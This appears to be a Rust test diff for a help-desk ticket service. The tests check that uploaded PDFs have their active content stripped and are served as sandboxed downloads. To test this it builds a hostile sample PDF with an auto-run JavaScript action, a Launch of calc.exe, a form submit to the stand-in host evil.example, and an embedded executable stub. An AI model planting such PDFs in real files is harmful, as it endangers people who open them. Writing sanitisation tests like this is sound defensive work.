@@ -24,10 +24,45 @@ async fn app() -> TestApp {
     .await
 }
 
+/// A real one-page PDF saying "Sagpan help" (lopdf), its content stream padded with a comment of `padding` bytes;
+/// `add` may add to the document, given the catalog's and the page's ids.
+fn one_page_pdf(padding: usize, add: impl FnOnce(&mut lopdf::Document, lopdf::ObjectId, lopdf::ObjectId)) -> Vec<u8> {
+    use lopdf::{Document, Object, Stream, dictionary};
+    let mut doc = Document::with_version("1.5");
+    let pages_id = doc.new_object_id();
+    let font_id = doc.add_object(dictionary! {"Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica"});
+    let mut content = b"BT /F1 24 Tf 72 700 Td (Sagpan help) Tj ET\n%".to_vec();
+    content.resize(content.len() + padding, b'x');
+    let content_id = doc.add_object(Stream::new(dictionary! {}, content));
+    let page_id = doc.add_object(dictionary! {
+        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id,
+        "Resources" => dictionary! {"Font" => dictionary! {"F1" => font_id}},
+    });
+    let pages = dictionary! {
+        "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
+        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
+    };
+    doc.objects.insert(pages_id, Object::Dictionary(pages));
+    let catalog_id = doc.add_object(dictionary! {"Type" => "Catalog", "Pages" => pages_id});
+    doc.trailer.set("Root", catalog_id);
+    add(&mut doc, catalog_id, page_id);
+    let mut out = Vec::new();
+    doc.save_to(&mut out).unwrap();
+    out
+}
+
+/// A real one-page PDF of exactly `size` bytes.
 fn pdf(size: usize) -> Vec<u8> {
-    let mut bytes = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
-    bytes.resize(size, b' ');
-    bytes
+    let mut padding = 0i64;
+    for _ in 0..10 {
+        let bytes = one_page_pdf(usize::try_from(padding).unwrap(), |_, _, _| {});
+        let off = i64::try_from(size).unwrap() - i64::try_from(bytes.len()).unwrap();
+        if off == 0 {
+            return bytes;
+        }
+        padding += off;
+    }
+    panic!("no PDF of {size} bytes");
 }
 
 fn file(name: &str, bytes: Vec<u8>) -> Part {
@@ -371,6 +406,111 @@ async fn bad_tickets_are_refused_and_store_nothing() {
     problem(app.get(&forged).await, 404).await;
     app.state.clock.advance(Duration::hours(1));
     problem(app.get(&url).await, 404).await;
+}
+
+/// A PDF that runs a script when opened, on page events and from a link, launches a program, submits a form and
+/// carries an embedded file, as the probe's hostile ticket did.
+fn hostile_pdf() -> Vec<u8> {
+    use lopdf::{Object, Stream, dictionary};
+    one_page_pdf(0, |doc, catalog_id, page_id| {
+        let script =
+            doc.add_object(Stream::new(dictionary! {}, b"app.alert('pwned'); this.exportDataObject({});".to_vec()));
+        let embedded = doc.add_object(Stream::new(dictionary! {"Type" => "EmbeddedFile"}, b"MZ evil program".to_vec()));
+        let open_action = dictionary! {"Type" => "Action", "S" => "JavaScript", "JS" => script};
+        let launch = dictionary! {"Type" => "Action", "S" => "Launch", "F" => Object::string_literal("calc.exe")};
+        let submit = dictionary! {"S" => "SubmitForm", "F" => Object::string_literal("https://evil.example/steal")};
+        let link = doc.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 100.into(), 100.into()],
+            "A" => launch,
+        });
+        let attachment = doc.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "FileAttachment", "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
+            "FS" => dictionary! {"Type" => "Filespec", "F" => Object::string_literal("a.exe"), "EF" => dictionary! {"F" => embedded}},
+        });
+        if let Ok(Object::Dictionary(page)) = doc.get_object_mut(page_id) {
+            page.set("Annots", vec![link.into(), attachment.into()]);
+            page.set(
+                "AA",
+                dictionary! {"O" => dictionary! {"S" => "JavaScript", "JS" => Object::string_literal("app.beep(0)")}},
+            );
+        }
+        if let Ok(Object::Dictionary(catalog)) = doc.get_object_mut(catalog_id) {
+            catalog.set("OpenAction", open_action);
+            catalog.set(
+                "Names",
+                dictionary! {
+                    "JavaScript" => dictionary! {"Names" => vec![Object::string_literal("x"), script.into()]},
+                    "EmbeddedFiles" => dictionary! {"Names" => vec![Object::string_literal("a.exe"), embedded.into()]},
+                },
+            );
+            catalog.set(
+                "AcroForm",
+                dictionary! {"Fields" => Vec::<Object>::new(), "XFA" => Object::string_literal("<xdp/>")},
+            );
+            catalog.set("AA", dictionary! {"WC" => submit});
+        }
+    })
+}
+
+#[tokio::test]
+async fn an_attached_pdf_loses_its_active_content_and_is_served_as_a_sandboxed_download() {
+    let app = app().await;
+    let moderator = app.moderator_token().await;
+    let m = app.member().await;
+    let hostile = hostile_pdf();
+    for marker in ["/JavaScript", "/OpenAction", "/Launch", "/EmbeddedFile", "/AcroForm", "/SubmitForm", "app.alert"] {
+        assert!(String::from_utf8_lossy(&hostile).contains(marker), "the test file carries {marker}");
+    }
+    let opened = app.open_ticket(&m, "My bank statement", vec![file("statement.pdf", hostile)]).await;
+    let url = opened["messages"][0]["attachments"][0]["url"].as_str().unwrap().to_owned();
+    let served = app.get(&url).await;
+    assert_eq!(served.status(), 200);
+    let headers = served.headers().clone();
+    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"), "a download");
+    let csp = headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("sandbox") && csp.contains("default-src 'none'"), "{csp}");
+    let bytes = served.bytes().await.unwrap();
+    let text = String::from_utf8_lossy(&bytes);
+    for marker in [
+        "/JavaScript",
+        "/OpenAction",
+        "/Launch",
+        "/EmbeddedFile",
+        "/AcroForm",
+        "/XFA",
+        "/SubmitForm",
+        "/AA",
+        "app.alert",
+        "evil",
+    ] {
+        assert!(!text.contains(marker), "{marker} left in the stored PDF");
+    }
+    // Still the same readable page.
+    let doc = lopdf::Document::load_mem(&bytes).unwrap();
+    assert_eq!(doc.get_pages().len(), 1);
+    assert!(doc.extract_text(&[1]).unwrap().contains("Sagpan help"));
+    // What a moderator opens is the same file.
+    let thread: Value = app
+        .authed(reqwest::Method::GET, &moderator, &format!("/api/Admin/Ticket/{}", opened["ticketId"]), None)
+        .await
+        .json()
+        .await
+        .unwrap();
+    let for_moderator = thread["messages"][0]["attachments"][0]["url"].as_str().unwrap().to_owned();
+    assert_eq!(app.get(&for_moderator).await.bytes().await.unwrap(), bytes);
+
+    // A file that only starts like a PDF is refused, and nothing is stored.
+    let mut fake = b"%PDF-1.4\n".to_vec();
+    fake.resize(2048, b' ');
+    let r = app
+        .multipart(
+            Some(&m.token),
+            "/api/Ticket/NewTicket",
+            ticket_form(Some("x"), Some("y"), vec![file("fake.pdf", fake)]),
+        )
+        .await;
+    problem(r, 422).await;
+    assert_eq!(app.attachment_count().await, 1);
 }
 
 #[tokio::test]
